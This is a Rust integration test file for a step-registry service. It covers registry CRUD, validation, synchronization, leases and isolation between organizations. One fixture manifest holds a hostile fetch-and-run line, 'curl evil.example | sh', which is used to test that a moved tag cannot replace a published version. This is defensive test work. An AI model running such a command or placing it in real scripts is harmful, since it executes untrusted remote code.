//! Step registries: their records and events, synchronizations, and attempts to reach those of others.

use greenroom_domain::step_registry::RefusalKind;
use greenroom_store::step_registry::{SyncBatch, SyncEnd, TagRefusal};
use reqwest::{Method, Response};
use serde_json::{Value, json};
use sqlx::PgPool;

use crate::requests::{header, problem, success, wrong_field};
use crate::support::database::TestDatabase;
use crate::support::steps::{lease, new_version, publish};
use crate::support::{Caller, TestServer};

const URL: &str = "https://git.example.com/acme/steps.git";
pub const SIGNER: &str =
    "ada@example.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f";

pub async fn send(server: &TestServer, by: &Caller, method: Method, path: &str, body: &Value) -> Response {
    server.request(by, method, path).json(body).send().await.unwrap()
}

pub async fn registry(server: &TestServer, owner: &Caller, name: &str) -> String {
    let created = server.post(owner, "/step-registries", json!({ "name": name, "url": URL })).await;
    created["id"].as_str().unwrap().to_owned()
}

/// Creates the registry `acme` with three versions of the step `roll-out`.
pub async fn with_steps(server: &TestServer, pool: &PgPool, owner: &Caller) -> String {
    let id = registry(server, owner, "acme").await;
    let versions = ["1.9.0", "1.10.0", "2.0.0-rc.1"];
    let versions = versions.map(|version| new_version("roll-out", version, &manifest(version)));
    publish(&server.server.app.store, pool, &id, versions.into()).await;
    id
}

/// The image of the steps. No test pulls it.
pub const IMAGE: &str = "tools@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

pub fn manifest(text: &str) -> String {
    format!("name: roll-out\n# {text}\nimage: {IMAGE}\nrun: ./run\n")
}

/// Returns the types of the events about steps and registries.
pub async fn types(server: &TestServer, pool: &PgPool, owner: &Caller) -> Vec<String> {
    let events = server.events(pool, owner).await;
    let types = events.iter().map(|event| event["type"].as_str().unwrap().to_owned());
    types.filter(|name| name.starts_with("registry.") || name.starts_with("step.")).collect()
}

/// The authors of a registry must not fill the database.
#[tokio::test]
async fn the_steps_of_an_organization_have_a_size() {
    let (_database, pool) = TestDatabase::create().await;
    let server = TestServer::start(&pool).await;
    let owner = server.organization("acme").await;
    let id = registry(&server, &owner, "acme").await;
    let store = &server.server.app.store;
    for (version, mebibytes) in [("1.0.0", 700), ("1.1.0", 700), ("1.2.0", 300)] {
        let mut new = new_version("roll-out", version, &manifest(version));
        new.bytes = mebibytes * 1024 * 1024;
        publish(store, &pool, &id, vec![new]).await;
    }
    let versions = server.get(&owner, &format!("/step-registries/{id}/steps/roll-out/versions")).await;
    let versions: Vec<&Value> =
        versions["data"].as_array().unwrap().iter().map(|one| &one["version"]).collect();
    assert_eq!(versions, ["1.2.0", "1.0.0"]);
    // Another organization has its own.
    let other = server.organization("globex").await;
    let id = registry(&server, &other, "globex").await;
    publish(store, &pool, &id, vec![new_version("roll-out", "1.0.0", &manifest("1.0.0"))]).await;
    let versions = server.get(&other, &format!("/step-registries/{id}/steps/roll-out/versions")).await;
    assert_eq!(versions["data"].as_array().unwrap().len(), 1);
    server.end().await;
}

#[tokio::test]
async fn a_registry_is_created_changed_and_deleted() {
    let (_database, pool) = TestDatabase::create().await;
    let server = TestServer::start(&pool).await;
    let owner = server.organization("acme").await;
    let body = json!({ "name": "acme", "url": URL, "signers": [SIGNER], "requireSignature": true });
    let created = send(&server, &owner, Method::POST, "/step-registries", &body).await;
    assert!(header(&created, "etag").starts_with("\"1."), "{}", header(&created, "etag"));
    let created = success(created, 201).await["data"].take();
    assert_eq!((&created["status"], &created["syncedAt"]), (&json!("active"), &json!(null)));
    assert_eq!((&created["signers"], &created["minimumAgeSeconds"]), (&json!([SIGNER]), &json!(0)));
    let again = send(&server, &owner, Method::POST, "/step-registries", &body).await;
    problem(again, 409, "registry_name_taken").await;

    let path = format!("/step-registries/{}", created["id"].as_str().unwrap());
    let patch = async |condition: &str, body: Value| {
        let request = server.request(&owner, Method::PATCH, &path).header("If-Match", condition);
        request.json(&body).send().await.unwrap()
    };
    let other = json!({ "url": "https://git.example.com/acme/steps2.git", "minimumAgeSeconds": 60 });
    let changed = success(patch("\"1\"", other.clone()).await, 200).await["data"].take();
    assert_eq!((&changed["url"], &changed["minimumAgeSeconds"]), (&other["url"], &json!(60)));
    assert_eq!((&changed["name"], &changed["requireSignature"]), (&json!("acme"), &json!(true)));
    problem(patch("\"1\"", json!({ "name": "late" })).await, 412, "precondition_failed").await;
    let same = patch("\"2\"", other).await;
    assert!(header(&same, "etag").starts_with("\"2."));
    assert_eq!(server.get(&owner, &path).await["data"], changed);
    assert_eq!(server.get(&owner, "/step-registries").await["data"], json!([changed]));
    wrong_field(patch("*", json!({ "signers": [] })).await, "/signers").await;
    let other = registry(&server, &owner, "other").await;
    problem(patch("*", json!({ "name": "other" })).await, 409, "registry_name_taken").await;

    let disabled = success(patch("*", json!({ "disabled": true })).await, 200).await;
    assert_eq!(disabled["data"]["status"], "disabled");
    let sync = format!("{path}/sync");
    problem(send(&server, &owner, Method::POST, &sync, &json!({})).await, 409, "invalid_state").await;
    let enabled = success(patch("*", json!({ "disabled": false })).await, 200).await;
    assert_eq!(enabled["data"]["status"], "active");

    let deleted = send(&server, &owner, Method::DELETE, &path, &json!({})).await;
    let deleted = success(deleted, 200).await["data"].take();
    assert!(deleted["deletedAt"].is_string());
    let again = send(&server, &owner, Method::DELETE, &path, &json!({})).await;
    assert_eq!(success(again, 200).await["data"], deleted);
    assert_eq!(server.get(&owner, &path).await["data"], deleted);
    assert_eq!(server.get(&owner, "/step-registries").await["data"][0]["id"], json!(other));
    problem(patch("*", json!({ "name": "late" })).await, 409, "invalid_state").await;
    problem(send(&server, &owner, Method::POST, &sync, &json!({})).await, 409, "invalid_state").await;
    // The name is free again.
    registry(&server, &owner, "acme").await;

    let events = server.events(&pool, &owner).await;
    let events: Vec<_> = events.iter().filter(|event| event["subject"] == path[1..]).collect();
    let types: Vec<_> = events.iter().map(|event| event["type"].as_str().unwrap()).collect();
    let updated = "registry.updated";
    assert_eq!(types, ["registry.created", updated, updated, updated, "registry.deleted"]);
    assert!(events.iter().all(|event| event["category"] == "audit"), "{events:?}");
    assert_eq!(events[1]["data"]["before"]["url"], URL);
    server.end().await;
}

#[tokio::test]
async fn the_same_key_creates_one_registry() {
    let (_database, pool) = TestDatabase::create().await;
    let server = TestServer::start(&pool).await;
    let owner = server.organization("acme").await;
    let create = || {
        let request =
            server.request(&owner, Method::POST, "/step-registries").header("Idempotency-Key", "registry-1");
        request.json(&json!({ "name": "acme", "url": URL })).send()
    };
    let first = success(create().await.unwrap(), 201).await;
    let second = success(create().await.unwrap(), 201).await;
    assert_eq!(first, second);
    // Two requests with different keys: one of them gets the name.
    let named = json!({ "name": "other", "url": URL });
    let (one, other) = tokio::join!(
        send(&server, &owner, Method::POST, "/step-registries", &named),
        send(&server, &owner, Method::POST, "/step-registries", &named),
    );
    let mut statuses = [one.status().as_u16(), other.status().as_u16()];
    statuses.sort_unstable();
    assert_eq!(statuses, [201, 409]);
    server.end().await;
}

#[tokio::test]
async fn mistakes_are_named_with_their_field() {
    let (_database, pool) = TestDatabase::create().await;
    let server = TestServer::start(&pool).await;
    let owner = server.organization("acme").await;
    for (changes, pointer) in [
        (json!({ "name": "" }), "/name"),
        (json!({ "name": "Acme" }), "/name"),
        (json!({ "name": "a/b" }), "/name"),
        (json!({ "url": "http://git.example.com/steps" }), "/url"),
        (json!({ "url": "https://user:password@git.example.com/steps" }), "/url"),
        (json!({ "url": "ssh://git@git.example.com/steps" }), "/url"),
        (json!({ "url": "file:///etc" }), "/url"),
        (json!({ "url": "https://git.example.com" }), "/url"),
        (json!({ "signers": ["ssh-ed25519 AAAA"] }), "/signers/0"),
        (json!({ "signers": [SIGNER, "* ssh-ed25519 AAAA"] }), "/signers/1"),
        (json!({ "signers": vec![SIGNER; 51] }), "/signers"),
        (json!({ "requireSignature": true }), "/signers"),
        (json!({ "minimumAgeSeconds": -1 }), "/minimumAgeSeconds"),
        (json!({ "minimumAgeSeconds": 7_776_001 }), "/minimumAgeSeconds"),
    ] {
        let mut body = json!({ "name": "acme", "url": URL });
        body.as_object_mut().unwrap().extend(changes.as_object().unwrap().clone());
        let refused = send(&server, &owner, Method::POST, "/step-registries", &body).await;
        wrong_field(refused, pointer).await;
    }
    assert_eq!(server.get(&owner, "/step-registries").await["data"], json!([]));
    server.end().await;
}

#[tokio::test]
async fn synchronizations_publish_versions_that_never_change() {
    let (_database, pool) = TestDatabase::create().await;
    let server = TestServer::start(&pool).await;
    let owner = server.organization("acme").await;
    let viewer = server.member(&owner, "acme", "viewer").await;
    let id = with_steps(&server, &pool, &owner).await;
    let store = &server.server.app.store;
    let path = format!("/step-registries/{id}");
    let synced = server.get(&owner, &path).await["data"].take();
    assert!(synced["syncedAt"].is_string() && synced["status"] == "active", "{synced}");
    assert!(synced["nextSyncAt"].as_str() > synced["syncedAt"].as_str());

    let step = server.get(&viewer, &format!("{path}/steps/roll-out")).await["data"].take();
    assert_eq!((&step["newest"]["version"], &step["versions"]), (&json!("1.10.0"), &json!(3)));
    assert_eq!(server.get(&viewer, &format!("{path}/steps")).await["data"], json!([step]));
    let versions = server.get(&viewer, &format!("{path}/steps/roll-out/versions")).await;
    let versions: Vec<_> =
        versions["data"].as_array().unwrap().iter().map(|version| version["version"].clone()).collect();
    assert_eq!(versions, ["2.0.0-rc.1", "1.10.0", "1.9.0"]);
    let one = format!("{path}/steps/roll-out/versions/1.9.0");
    let version = server.get(&viewer, &one).await["data"].take();
    assert_eq!(version["manifest"], manifest("1.9.0"));
    assert_eq!(
        (&version["files"][0]["path"], &version["files"][0]["mode"]),
        (&json!("step.yaml"), &json!("100644"))
    );

    // The tag was moved: the version stays, and one event is recorded for the new object.
    let moved = new_version("roll-out", "1.9.0", "name: roll-out\nrun: curl evil.example | sh\n");
    for _ in 0..2 {
        publish(store, &pool, &id, vec![moved.clone()]).await;
    }
    assert_eq!(server.get(&viewer, &one).await["data"], version);
    let events = server.events(&pool, &viewer).await;
    let moves: Vec<_> = events.iter().filter(|event| event["type"] == "step.tag_moved").collect();
    // The end of a synchronization without that tag forgets the refusal.
    assert_eq!(moves.len(), 2);
    assert_eq!(moves[0]["subject"], format!("step-registries/{id}/steps/roll-out"));
    assert_eq!(moves[0]["data"]["before"]["tagObject"], version["tagObject"]);
    assert_eq!(moves[0]["data"]["after"]["tagObject"], json!(moved.tag_object));
    let published = events.iter().filter(|event| event["type"] == "step.published").count();
    assert_eq!(published, 3);
    server.end().await;
}

fn refusal(version: &str, object: &str, kind: RefusalKind) -> TagRefusal {
    TagRefusal {
        name: "roll-out".to_owned(),
        version: version.parse().unwrap(),
        object: object.to_owned(),
        kind,
        reason: format!("because of {object}\u{0}"),
    }
}

#[tokio::test]
async fn failures_and_refusals_are_shown() {
    let (_database, pool) = TestDatabase::create().await;
    let server = TestServer::start(&pool).await;
    let owner = server.organization("acme").await;
    let id = with_steps(&server, &pool, &owner).await;
    let store = &server.server.app.store;
    let path = format!("/step-registries/{id}");
    let sync = async |refused: Vec<TagRefusal>, end: SyncEnd| {
        let due = lease(store, &pool, &id).await;
        let batch = SyncBatch { refused, end: Some(end), ..SyncBatch::default() };
        assert!(store.record_registry_sync(&due, &batch).await.unwrap());
        server.get(&owner, &path).await["data"].take()
    };
    let before = server.get(&owner, &path).await["data"].take();
    let failed = sync(vec![], SyncEnd::Failed { error: "no route\u{1b}".to_owned() }).await;
    assert_eq!((&failed["status"], &failed["error"]), (&json!("degraded"), &json!("no route\u{fffd}")));
    assert_eq!(failed["syncedAt"], before["syncedAt"]);
    // What is known stays available.
    assert_eq!(server.get(&owner, &format!("{path}/steps")).await["pagination"]["total"], 1);

    let tags = || SyncEnd::Synced { tags: ["roll-out/v3.0.0", "roll-out/v4.0.0"].map(str::to_owned).into() };
    let refused = vec![
        refusal("3.0.0", "a1", RefusalKind::SignatureRefused),
        refusal("4.0.0", "b1", RefusalKind::Invalid),
    ];
    let degraded = sync(refused.clone(), tags()).await;
    assert_eq!(degraded["status"], "degraded");
    assert_eq!(degraded["error"], "roll-out/v4.0.0: because of b1\u{fffd}");
    let known = store.known_tags(owner.organization.parse().unwrap(), id.parse().unwrap()).await.unwrap();
    assert_eq!((known.published.len(), known.refused.len()), (3, 2));
    // Refused again: no other event, and it is still shown.
    assert_eq!(sync(refused, tags()).await["status"], "degraded");
    let gone = sync(vec![], SyncEnd::Synced { tags: vec!["roll-out/v3.0.0".to_owned()] }).await;
    assert_eq!((&gone["status"], &gone["error"]), (&json!("active"), &json!(null)));
    let names = types(&server, &pool, &owner).await;
    assert_eq!(names.iter().filter(|name| *name == "step.signature_refused").count(), 1, "{names:?}");
    server.end().await;
}

/// A worker whose registry was changed, disabled or deleted meanwhile, or which was too slow, records nothing.
#[tokio::test]
async fn the_result_of_a_lost_lease_does_not_count() {
    let (_database, pool) = TestDatabase::create().await;
    let server = TestServer::start(&pool).await;
    let owner = server.organization("acme").await;
    let id = registry(&server, &owner, "acme").await;
    let store = &server.server.app.store;
    let path = format!("/step-registries/{id}");
    let versions = vec![new_version("roll-out", "1.0.0", "name: roll-out\n")];
    let batch = SyncBatch {
        published: versions,
        end: Some(SyncEnd::Synced { tags: Vec::new() }),
        ..SyncBatch::default()
    };
    for change in [
        json!({ "url": "https://git.example.com/other.git" }),
        json!({ "signers": [SIGNER] }),
        json!({ "disabled": true }),
    ] {
        let due = lease(store, &pool, &id).await;
        success(send(&server, &owner, Method::PATCH, &path, &change).await, 200).await;
        assert!(!store.record_registry_sync(&due, &batch).await.unwrap(), "{change}");
        let enabled = json!({ "disabled": false });
        success(send(&server, &owner, Method::PATCH, &path, &enabled).await, 200).await;
    }
    // Another worker has taken over.
    let due = lease(store, &pool, &id).await;
    let second = lease(store, &pool, &id).await;
    assert!(!store.record_registry_sync(&due, &batch).await.unwrap());
    // A registry that is leased is not due for others.
    sqlx::query("update step_registries set next_sync_at = 'epoch'").execute(&pool).await.unwrap();
    let none = store.lease_due_registry(std::time::Duration::from_secs(60), &[]).await.unwrap();
    assert_eq!(none, None);
    success(send(&server, &owner, Method::DELETE, &path, &json!({})).await, 200).await;
    assert!(!store.record_registry_sync(&second, &batch).await.unwrap());
    assert_eq!(server.get(&owner, &format!("{path}/steps")).await["data"], json!([]));
    let names = types(&server, &pool, &owner).await;
    assert!(names.iter().all(|name| !name.starts_with("step.")), "{names:?}");
    server.end().await;
}

#[tokio::test]
async fn registries_of_another_organization_do_not_exist() {
    let (_database, pool) = TestDatabase::create().await;
    let server = TestServer::start(&pool).await;
    let (owner, stranger) = (server.organization("acme").await, server.organization("globex").await);
    let foreign = with_steps(&server, &pool, &owner).await;
    let path = format!("/step-registries/{foreign}");
    let step = format!("{path}/steps/roll-out");
    let version = format!("{step}/versions/1.9.0");
    for (method, path) in [
        (Method::GET, path.clone()),
        (Method::PATCH, path.clone()),
        (Method::DELETE, path.clone()),
        (Method::POST, format!("{path}/sync")),
        (Method::GET, format!("{path}/steps")),
        (Method::GET, step.clone()),
        (Method::GET, format!("{step}/versions")),
        (Method::GET, format!("{step}/usage")),
        (Method::GET, version.clone()),
        (Method::GET, format!("{version}/diff")),
        (Method::POST, format!("{version}/yank")),
    ] {
        let body = json!({ "reason": "not mine" });
        let body = if path.ends_with("/yank") { body } else { json!({}) };
        let response = send(&server, &stranger, method, &path, &body).await;
        problem(response, 404, "not_found").await;
    }
    // The same name is free there, and means nothing of the other organization.
    registry(&server, &stranger, "acme").await;
    let uses = json!({ "uses": "acme/roll-out@v1" });
    wrong_field(send(&server, &stranger, Method::POST, "/step-registries/resolve", &uses).await, "/uses")
        .await;
    // Its content is not shared either.
    let digest = new_version("roll-out", "1.9.0", &manifest("1.9.0")).digest;
    let store = &server.server.app.store;
    let archive = async |caller: &Caller| {
        store.step_archive(caller.organization.parse().unwrap(), &digest).await.unwrap()
    };
    assert!(archive(&owner).await.is_some() && archive(&stranger).await.is_none());
    for path in
        ["/steps/Roll", "/steps/roll-out/versions/1.9", "/steps/roll-out/versions/v1.9.0", "/steps/none"]
    {
        let path = format!("/step-registries/{foreign}{path}");
        problem(send(&server, &owner, Method::GET, &path, &json!({})).await, 404, "not_found").await;
    }
    server.end().await;
}
